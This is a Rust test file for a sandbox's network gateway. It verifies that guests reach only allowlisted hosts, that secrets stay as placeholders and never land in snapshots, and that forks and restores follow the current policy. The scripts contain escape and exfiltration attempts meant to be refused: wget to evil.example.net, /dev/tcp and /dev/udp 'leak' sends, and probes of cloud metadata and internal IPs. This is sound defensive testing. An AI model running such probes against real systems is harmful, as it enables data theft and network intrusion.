//! The network of guests: connections to their own loopback, carried through the channel to a gateway.

use std::collections::BTreeSet;
use std::fs::Permissions;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use ringwall_testkit::attacks;

use crate::seeds::SHIPPED;
use crate::site::{Living, Site, WALLS};
use crate::snapshots::holds;

const CANARY: &str = "canary-71e0c2d8-behind-the-gateway";
/// Longer than what is under way on one stream at once.
const BODY_BYTES: usize = 2 << 20;

/// An HTTP server on the host's loopback, which counts its requests.
fn server() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("bound").port();
    let asked = Arc::new(AtomicUsize::new(0));
    let count = asked.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let (mut stream, mut head) = (stream.expect("a connection"), Vec::new());
            let mut byte = [0];
            while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|n| n == 1) {
                head.extend(byte);
            }
            count.fetch_add(1, Ordering::SeqCst);
            let body = match String::from_utf8_lossy(&head).contains("/long") {
                true => vec![b'x'; BODY_BYTES],
                false => b"hello\n".to_vec(),
            };
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(&[head.as_bytes(), &body].concat());
        }
    });
    (port, asked)
}

fn settings_of(site: &Site) -> PathBuf {
    site.ground.world.home().join("gateway.json")
}

/// A site whose gateways find the server at this port by the names of the attacks.
fn site_with_names(port: u16) -> Site {
    let site = Site::new();
    let zone =
        attacks::ZONE.map(|(name, address)| format!(r#""{name}": ["{address}"]"#)).join(", ");
    let exempt = attacks::ZONE.map(|(name, _)| format!(r#""{name}:{port}=127.0.0.1""#)).join(", ");
    let settings = format!(r#"{{"names": {{"zone": {{{zone}}}}}, "exempt": [{exempt}]}}"#);
    std::fs::write(settings_of(&site), settings).expect("a file");
    site
}

#[test]
fn each_wall_reaches_what_is_allowed_through_the_gateway_and_nothing_else() {
    let (port, asked) = server();
    let site = site_with_names(port);
    let allowed = format!("http://api.example.com:{port}");
    for wall in WALLS {
        asked.store(0, Ordering::SeqCst);
        let script = format!(
            "busybox wget -q -O - {allowed}/hello; busybox wget -q -O - {allowed}/long | wc -c; \
             busybox wget -q -O - http://evil.example.net:{port}/hello || echo refused; \
             unset http_proxy HTTP_PROXY; busybox wget -q -T 3 -O - http://10.0.2.2:{port}/ || echo alone; \
             echo /sys/class/net/*"
        );
        let run = site.run_in(wall, &["--net", &allowed, "--timeout", "90s"], &script);
        let out = run.exits(0).out();
        let wanted = format!("hello\n{BODY_BYTES}\nrefused\nalone\n");
        assert!(out.starts_with(&wanted), "{wall}: {run:?}");
        assert!(!out.contains("eth"), "{wall}: {out}");
        assert_eq!(asked.load(Ordering::SeqCst), 2, "{wall}: only what was allowed arrived");
        let log = site.ringwall(&["net", "log"]).exits(0).out();
        assert!(log.contains("evil.example.net") && log.contains("api.example.com"), "{log}");
    }
    std::fs::remove_file(settings_of(&site)).expect("the test's own file");
    site.is_clean();
}

#[test]
fn a_living_guest_has_its_network_as_long_as_it_lives() {
    let (port, _) = server();
    let site = site_with_names(port);
    let allowed = format!("http://api.example.com:{port}");
    let living = site.create("vm", &["--net", &allowed]);
    for _ in 0..3 {
        living.exec(&format!("busybox wget -q -O - {allowed}/hello")).exits(0).prints("hello\n");
    }
    living.remove();
    std::fs::remove_file(settings_of(&site)).expect("the test's own file");
    site.is_clean();
}

#[test]
fn copies_of_a_guest_have_gateways_and_placeholders_of_their_own() {
    let (port, _) = server();
    let site = site_with_names(port);
    let allowed = format!("http://api.example.com:{port}");
    let place = tempfile::tempdir().expect("a place");
    let secret = place.path().join("key");
    std::fs::write(&secret, CANARY).expect("a file");
    std::fs::set_permissions(&secret, Permissions::from_mode(0o600)).expect("a mode");
    site.ringwall(&["secret", "add", "key", "--file", secret.to_str().expect("text")]).exits(0);
    site.ringwall(&["secret", "bind", "key", "api.example.com", "--variable", "API_KEY"]).exits(0);
    let parent = site.create("vm", &["--net", &allowed, "--secret", "key"]);
    let fetch = format!("busybox wget -q -O - {allowed}/hello");
    parent.exec(&fetch).exits(0).prints("hello\n");
    // One that asks all the time, and one with a connection open all the time.
    let asks =
        format!("while sleep 0.1; do {fetch} >>/tmp/asked 2>&1 || echo failed >>/tmp/asked; done");
    parent.exec(&format!("({asks}) </dev/null >/dev/null 2>&1 &")).exits(0);
    let stays =
        "mkfifo /tmp/f; (busybox nc 127.0.0.1 3128 <>/tmp/f >/dev/null 2>&1; : >/tmp/closed) &";
    parent.exec(stays).exits(0);
    let kept = site.ringwall(&["snapshot", &parent.id]).exits(0).word();
    let copy = site.living(&site.ringwall(&["fork", &parent.id]).exits(0).word());
    parent.exec("test ! -e /tmp/closed").exits(0);
    // The other end of it is nowhere.
    copy.exec("until test -e /tmp/closed; do sleep 0.1; done").exits(0);
    let again = site.living(&site.ringwall(&["restore", &kept]).exits(0).word());
    let mut placeholders = BTreeSet::new();
    for living in [&parent, &copy, &again] {
        living.exec(&fetch).exits(0).prints("hello\n");
        let other = format!("busybox wget -q -O - http://evil.example.net:{port}/hello || echo no");
        living.exec(&other).exits(0).prints("no\n");
        let placeholder = living.exec("echo $API_KEY").exits(0).out();
        assert!(placeholder.len() > 16 && !placeholder.contains(CANARY), "{placeholder}");
        assert!(placeholders.insert(placeholder), "two guests have the same placeholder");
        // What asked before goes on asking, by the gateway of the guest that it is in now.
        living.exec("rm /tmp/asked; until grep -q hello /tmp/asked; do sleep 0.1; done").exits(0);
    }
    let snapshot = site.ground.world.home().join("snapshots").join(&kept);
    for file in ["memory", "state", "snapshot.json"] {
        assert!(!holds(&snapshot.join(file), CANARY), "the secret is in {file}");
    }
    // By now there is a policy, and nobody asked it.
    let config = site.ground.world.path("nobody-home/.config/ringwall");
    std::fs::create_dir_all(&config).expect("a directory");
    std::fs::write(config.join("ringwall.toml"), SHIPPED).expect("a policy");
    site.ringwall(&["restore", &kept]).is_refused().says(&["policy gives", "limits.timeout"]);
    [parent, copy, again].into_iter().for_each(Living::remove);
    site.ringwall(&["snapshot", "rm", &kept]).exits(0);
    let secrets = site.ground.world.home().join("secrets");
    std::fs::remove_dir_all(secrets).expect("the test's own secret");
    std::fs::remove_file(settings_of(&site)).expect("the test's own file");
    site.is_clean();
}

#[test]
fn copies_reach_what_the_policy_gives_them_when_they_are_made() {
    let (port, _) = server();
    let site = site_with_names(port);
    let config = site.ground.world.path("nobody-home/.config/ringwall");
    std::fs::create_dir_all(&config).expect("a directory");
    let policy = |hosts: &[&str]| {
        let rules = hosts
            .iter()
            .map(|host| format!("[[network.allow]]\nhost = \"{host}\"\nport = {port}\n"));
        let rules = format!("[network]\n{}", rules.collect::<String>());
        let text = SHIPPED.replace("[network]\npresets = [\"none\"]\n", &rules);
        assert!(text.contains("allow") || hosts.is_empty());
        std::fs::write(config.join("ringwall.toml"), text).expect("a policy");
    };
    // Policies give TLS only; what the gateway says before there is any is enough.
    let fetch = |host: &str| {
        let head = format!("CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n");
        format!(
            "(printf '{head}'; sleep 3) | busybox timeout 3 busybox nc 127.0.0.1 3128 | grep -q ' 200 ' && echo yes || echo no"
        )
    };
    let (api, git) = (fetch("api.example.com"), fetch("git.example.com"));
    policy(&["api.example.com", "git.example.com"]);
    let parent = site.create("vm", &["--kind", "build"]);
    parent.exec(&api).exits(0).prints("yes\n");
    let kept = site.ringwall(&["snapshot", &parent.id]).exits(0).word();
    parent.remove();
    policy(&["api.example.com"]);
    let copy = site.living(&site.ringwall(&["restore", &kept]).exits(0).word());
    copy.exec(&api).exits(0).prints("yes\n");
    copy.exec(&git).exits(0).prints("no\n");
    copy.remove();
    policy(&[]);
    let copy = site.living(&site.ringwall(&["restore", &kept]).exits(0).word());
    copy.exec(&api).exits(0).prints("no\n");
    copy.remove();
    std::fs::remove_file(config.join("ringwall.toml")).expect("the test's own file");
    site.ringwall(&["restore", &kept]).is_refused().says(&["policy"]);
    site.ringwall(&["snapshot", "rm", &kept]).exits(0);
    std::fs::remove_file(settings_of(&site)).expect("the test's own file");
    site.is_clean();
}

/// The list that the other walls are tried with, too, and the ways out that need no proxy.
#[test]
fn every_attack_of_the_list_is_refused_in_guests() {
    let (port, asked) = server();
    let site = site_with_names(port);
    let place = tempfile::tempdir().expect("a place");
    let rules = place.path().join("rules.json");
    std::fs::write(&rules, attacks::rules(port)).expect("a file");
    let flags = ["--net-rules", rules.to_str().expect("text"), "--timeout", "110s"];
    for wall in ["vm", "vm/container"] {
        asked.store(0, Ordering::SeqCst);
        let attempts = attacks::attempts(port);
        let others = "try() { \"$@\" >/dev/null 2>&1 && echo REACHED \"$@\"; }; \
             for ip in 1.1.1.1 10.0.2.2 169.254.169.254 224.0.0.251 2001:db8::1; do \
             try busybox ping -c 1 -W 1 $ip; try busybox nc -w 1 $ip 443 </dev/null; done; \
             busybox ip link show | busybox grep -v lo: | busybox grep '^[0-9]' && echo REACHED a device; \
             true";
        let run = site.run_in(wall, &flags, &format!("{}{others}", attacks::script(&attempts, 3)));
        let out = run.exits(0).out();
        assert!(!out.contains("REACHED"), "{wall}: {run:?}");
        attacks::judge(wall, &attempts, &out);
        assert_eq!(asked.load(Ordering::SeqCst), 1, "{wall}: only the control arrived");
    }
    std::fs::remove_file(settings_of(&site)).expect("the test's own file");
    site.is_clean();
}

#[test]
fn a_guest_without_rules_has_no_door() {
    let site = Site::new();
    let script = "env | grep -i proxy; echo | busybox nc -w 2 127.0.0.1 3128 && echo OPEN; true";
    site.run(&[], script).exits(0).prints("");
}

/// Puts bash into a workspace, with the libraries that it needs: a program that asks for names as most
/// do, which a static busybox cannot.
fn bash_in(workspace: &Path) {
    std::fs::create_dir(workspace).expect("a directory");
    let listed = Command::new("ldd").arg("/bin/bash").output().expect("ldd can be run");
    let listed = String::from_utf8(listed.stdout).expect("text");
    for library in listed.split_whitespace().filter(|word| word.starts_with('/')) {
        let name = Path::new(library).file_name().expect("a name");
        std::fs::copy(library, workspace.join(name)).expect("a copy");
    }
    std::fs::copy("/bin/bash", workspace.join("bash")).expect("a copy");
}

/// Programs in a guest that know no proxy; and every other way out that a small program can try.
#[test]
fn a_guest_without_proxies_reaches_what_is_allowed_and_nothing_else() {
    let (port, asked) = server();
    let site = site_with_names(port);
    let clients = site.ground.world.path("clients");
    bash_in(&clients);
    let clients = clients.to_str().expect("text");
    let datagrams = std::net::UdpSocket::bind("0.0.0.0:0").expect("a port");
    datagrams.set_read_timeout(Some(std::time::Duration::from_millis(300))).expect("a timeout");
    let udp = datagrams.local_addr().expect("bound").port();
    let allowed = format!("http://api.example.com:{port}");
    let flags =
        ["--net-transparent", "--net", &allowed, "--timeout", "120s", "--workspace", clients];
    let script = format!(
        "unset http_proxy HTTP_PROXY https_proxy HTTPS_PROXY all_proxy ALL_PROXY; \
         bash() {{ ./ld-linux-x86-64.so.2 --library-path . ./bash -c \"$1\"; }}; \
         get() {{ bash \"exec 3<>/dev/tcp/$1/{port} || exit 1; \
         printf 'GET $2 HTTP/1.1\\r\\nHost: $1:{port}\\r\\nConnection: close\\r\\n\\r\\n' >&3; busybox sed '1,/^.\\?$/d' <&3\"; }}; \
         get api.example.com /hello; get api.example.com /long | wc -c; \
         try() {{ \"$@\" >/dev/null 2>&1 && echo REACHED \"$@\"; }}; \
         try get evil.example.net /; \
         for ip in 127.0.0.1 10.0.2.2 10.0.2.3 169.254.169.254 1.1.1.1 168.63.129.16 198.18.0.99; do \
         try busybox wget -q -T 3 -O - http://$ip:{port}/; \
         try busybox wget -q -T 3 -O - http://$ip:25/; \
         bash \"echo leak >/dev/udp/$ip/{udp}\" 2>/dev/null; done; \
         try busybox wget -q -T 3 -O - 'http://[::1]:{port}/'; \
         try busybox wget -q -T 3 -O - 'http://[fd00:ec2::254]:{port}/'; \
         echo /sys/class/net/*"
    );
    for wall in ["vm", "vm/process", "vm/container"] {
        asked.store(0, Ordering::SeqCst);
        let run = site.run_in(wall, &flags, &script);
        let out = run.exits(0).out();
        let wanted = format!("hello\n{BODY_BYTES}\n/sys/class/net/");
        assert!(out.starts_with(&wanted) && !out.contains("REACHED"), "{wall}: {run:?}");
        assert!(!out.contains("eth"), "{wall}: {out}");
        assert_eq!(asked.load(Ordering::SeqCst), 2, "{wall}: only what was allowed arrived");
        assert!(datagrams.recv(&mut [0; 16]).is_err(), "{wall}: no datagram came");
    }
    std::fs::remove_file(settings_of(&site)).expect("the test's own file");
    site.is_clean();
}
